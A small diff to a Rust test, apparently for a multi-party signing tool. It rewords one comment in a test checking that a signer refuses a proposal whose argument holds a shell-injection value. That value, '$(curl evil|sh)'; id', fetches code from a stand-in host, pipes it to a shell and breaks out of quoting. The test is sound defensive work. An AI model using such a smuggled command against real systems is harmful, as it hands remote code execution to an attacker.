@@ -267,7 +267,7 @@ fn an_open_argument_is_said_by_every_signer() {
     // A value is a value: the vault's address is what its name stands for.
     let set = format!("target={}", ceremony.vault);
     try_sign(carol, &[&hand_over(carol, &proposal), "--set", &set]).ended(0);
-    // What is copied from the screen is one word for a shell, whatever a stranger wrote.
+    // A text copied from the screen is one word for a shell, whatever a stranger wrote.
     let evil = changed(&proposal, "/levers/0/arguments/target", &json!("$(curl evil|sh)'; id"));
     bob_refuses(bob, &evil, &[], 4, &[r"--set 'target=$(curl evil|sh)'\''; id'"]);
 }
